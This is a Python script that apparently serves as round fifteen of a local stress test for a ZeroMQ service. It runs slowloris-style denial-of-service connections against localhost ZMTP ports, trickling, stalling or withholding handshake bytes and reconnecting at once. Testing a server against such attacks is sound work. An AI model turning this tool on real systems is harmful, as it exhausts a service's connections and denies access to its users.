#!/usr/bin/env python3
"""round 15: slowloris greetings. slowloris.py PORTS SECS CONNS GAP [MODE] [SRCS]
CONNS raw TCP connections spread over PORTS (comma list), from source 127.0.0.(2 + i % SRCS)
(SRCS default 16); MODE 'trickle' (default): each sends the ZMTP greeting one byte every GAP s;
'curve': the whole greeting as a CURVE client, then a HELLO one byte every GAP s; 'silent':
connects and sends nothing; 'noread': a full NULL-greeting then nothing read ever.
Reconnects at once when closed. Prints connects / closes seen."""
import socket, sys, time, json, random, selectors
ports = [int(p) for p in sys.argv[1].split(",")]
secs, n, gap = float(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
mode = sys.argv[5] if len(sys.argv) > 5 else "trickle"
nsrc = int(sys.argv[6]) if len(sys.argv) > 6 else 16
greet = bytearray(64); greet[0] = 0xff; greet[9] = 0x7f; greet[10] = 3; greet[11] = 0
greet[12:12+5] = b"CURVE" if mode == "curve" else b"NULL"
hello = bytes([0x04, 0xc8 - 2 + 2]) + b"\x05HELLO" + b"\x01\x00" + bytes(72) + bytes(8) + bytes(32) + bytes(80)
payload = bytes(greet) + (hello if mode == "curve" else b"")
st = {"connects": 0, "closed": 0, "bytes": 0}
conns = {}
def opn(i):
    s = socket.socket(); s.setblocking(True)
    try:
        s.bind(("127.0.0.%d" % (2 + i % nsrc), 0)); s.settimeout(1); s.connect(("127.0.0.1", ports[i % len(ports)]))
    except OSError:
        s.close(); return None
    s.setblocking(False); st["connects"] += 1
    pos = 0
    if mode == "curve": pos = 64
    if mode == "noread":
        try: s.send(bytes(greet)); pos = len(payload)
        except OSError: pass
    conns[i] = [s, pos]
    if mode == "curve":
        try: s.send(bytes(greet))
        except OSError: pass
end = time.monotonic() + secs
for i in range(n): opn(i)
while time.monotonic() < end:
    t0 = time.monotonic()
    for i in list(conns):
        s, pos = conns[i]
        dead = False
        try:
            if mode != "noread":
                d = s.recv(4096)
                if d == b"": dead = True
        except BlockingIOError: pass
        except OSError: dead = True
        if not dead and mode in ("trickle", "curve") and pos < len(payload):
            try: s.send(payload[pos:pos+1]); conns[i][1] += 1; st["bytes"] += 1
            except BlockingIOError: pass
            except OSError: dead = True
        if dead:
            st["closed"] += 1; s.close(); del conns[i]; opn(i)
    d = gap - (time.monotonic() - t0)
    if d > 0: time.sleep(d)
for s, _ in conns.values(): s.close()
print(json.dumps(st))
